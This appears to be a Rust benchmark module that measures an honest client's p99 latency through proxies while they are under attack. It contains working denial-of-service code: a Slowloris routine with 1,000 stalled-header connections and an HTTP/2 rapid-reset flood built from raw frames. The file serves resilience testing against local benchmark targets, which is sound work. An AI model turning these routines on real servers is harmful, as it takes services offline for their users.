//! What an attack does to an honest client: its latency through a plain hop that is left alone, that
//! holds heads which come an octet at a time, and that is flooded with streams that are reset.

use std::{
    error::Error,
    io::{self, ErrorKind, Read as _, Write as _},
    net::{SocketAddr, TcpStream},
    sync::atomic::{AtomicBool, Ordering},
    thread,
    time::Duration,
};

use crate::bench::{
    Measured, Options,
    client::{Pace, connect},
    report::{Figures, Row},
    setting::{LENO, Setting},
    turns::{Column, Turns},
};
use crate::rig::{
    course::{Course, Spoken, Way},
    make::Make,
    process::{Core, pause},
};

/// An honest client beside each attack.
pub(super) fn measure(setting: &Setting, options: &Options) -> Measured {
    let course = Course::new(Spoken::Http1, Way::Hop);
    let peers = [Make::HaProxy, setting.envoy()];
    let contestants = setting.start(&course, Core::Proxy, &peers)?;
    let honest = Pace {
        rate: 500,
        connections: 16,
        seconds: options.seconds,
    };
    let turns = Turns::take(COLUMNS, &contestants, options.rounds, |contestant| {
        let at = contestant.address;
        let p99 = || Ok(honest.calls(at)?.micros(0.99));
        Ok([
            p99()?,
            beside(&|over| slow(at, over), &p99)?,
            beside(&|over| resets(at, over), &p99)?,
        ])
    })?;
    let row = |what, column| {
        let times = turns.over(LENO, column, 0)?;
        let p99 = turns.series(LENO, column)?;
        Some(Row {
            what,
            target: "is told".to_owned(),
            measured: format!("{p99:.0} µs, {times:.2} x"),
            reached: true,
        })
    };
    let rows = [
        row(
            "p99 of an honest client beside 1,000 heads that come an octet at a time",
            1,
        ),
        row(
            "p99 of an honest client beside 20,000 resets of streams a second",
            2,
        ),
    ];
    Ok(Figures {
        rows: rows.into_iter().flatten().collect(),
        table: turns.table(LENO),
        plots: Vec::new(),
    })
}

/// What is measured while the attack goes on.
fn beside(
    attack: &(dyn Fn(&AtomicBool) -> io::Result<()> + Sync),
    measured: &dyn Fn() -> Result<f64, Box<dyn Error>>,
) -> Result<f64, Box<dyn Error>> {
    let over = AtomicBool::new(false);
    thread::scope(|scope| {
        let attack = scope.spawn(|| {
            Core::Other.pin()?;
            attack(&over)
        });
        pause(BEGUN);
        let measured = measured();
        over.store(true, Ordering::Relaxed);
        attack.join().map_err(|_| "the attacker has panicked")??;
        measured
    })
}

/// Slowloris: connections whose heads never end.
fn slow(at: SocketAddr, over: &AtomicBool) -> io::Result<()> {
    let mut connections = Vec::new();
    for _ in 0..SLOW {
        let mut connection = connect(at)?;
        connection.write_all(b"GET / HTTP/1.1\r\nhost: cart\r\nx: ")?;
        connections.push(connection);
    }
    let mut turn = connections.iter().cycle();
    while !over.load(Ordering::Relaxed) {
        // Each has its turn once a second.
        for mut connection in turn.by_ref().take(SLOW / 100) {
            gone(connection.write_all(b"x"))?;
        }
        pause(Duration::from_millis(10));
    }
    Ok(())
}

/// Rapid reset: streams that are opened and reset at once, over connections that are opened anew when
/// the proxy has had enough.
fn resets(at: SocketAddr, over: &AtomicBool) -> io::Result<()> {
    let mut flood = Flood::open(at)?;
    while !over.load(Ordering::Relaxed) {
        if !flood.burst(BURST)? {
            flood = Flood::open(at)?;
        }
        pause(Duration::from_millis(5));
    }
    Ok(())
}

/// A connection of HTTP/2 on which streams are opened and reset.
struct Flood {
    connection: TcpStream,
    next: u32,
}

impl Flood {
    fn open(at: SocketAddr) -> io::Result<Self> {
        let mut connection = connect(at)?;
        connection.set_read_timeout(Some(Duration::from_millis(1)))?;
        connection.set_write_timeout(Some(Duration::from_millis(100)))?;
        gone(connection.write_all(b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n\0\0\0\x04\0\0\0\0\0"))?;
        Ok(Self {
            connection,
            next: 1,
        })
    }

    /// Opens and resets so many streams; whether the connection still stands.
    fn burst(&mut self, streams: u32) -> io::Result<bool> {
        let mut frames = Vec::new();
        for _ in 0..streams {
            let id = self.next.to_be_bytes();
            // HEADERS, END_STREAM and END_HEADERS: `GET`, `http`, `/` of HPACK's static table, and a host.
            frames.extend(b"\0\0\x09\x01\x05");
            frames.extend(id);
            frames.extend(b"\x82\x86\x84\x01\x04cart");
            // RST_STREAM: CANCEL.
            frames.extend(b"\0\0\x04\x03\0");
            frames.extend(id);
            frames.extend(8u32.to_be_bytes());
            self.next += 2;
        }
        let stands = gone(self.connection.write_all(&frames))?;
        let mut room = [0; 16 * 1024];
        match self.connection.read(&mut room) {
            Ok(0) => Ok(false),
            Ok(_) => Ok(stands && self.next < 1 << 30),
            Err(error) if error.kind() == ErrorKind::WouldBlock => Ok(stands),
            Err(error) => gone(Err(error)),
        }
    }
}

/// Whether the other end still takes what is written: a proxy may well close on an attacker.
fn gone(written: io::Result<()>) -> io::Result<bool> {
    match written {
        Ok(()) => Ok(true),
        Err(error) => match error.kind() {
            ErrorKind::BrokenPipe
            | ErrorKind::ConnectionReset
            | ErrorKind::ConnectionAborted
            | ErrorKind::WouldBlock => Ok(false),
            _ => Err(error),
        },
    }
}

const COLUMNS: &[Column; 3] = &[
    Column {
        what: "p99 left alone, µs",
        digits: 0,
    },
    Column {
        what: "p99 beside slow heads, µs",
        digits: 0,
    },
    Column {
        what: "p99 beside resets, µs",
        digits: 0,
    },
];

/// How many heads come slowly.
const SLOW: usize = 1000;

/// How many streams are reset every 5 ms.
const BURST: u32 = 100;

/// How long an attack goes on before the honest client comes.
const BEGUN: Duration = Duration::from_millis(300);
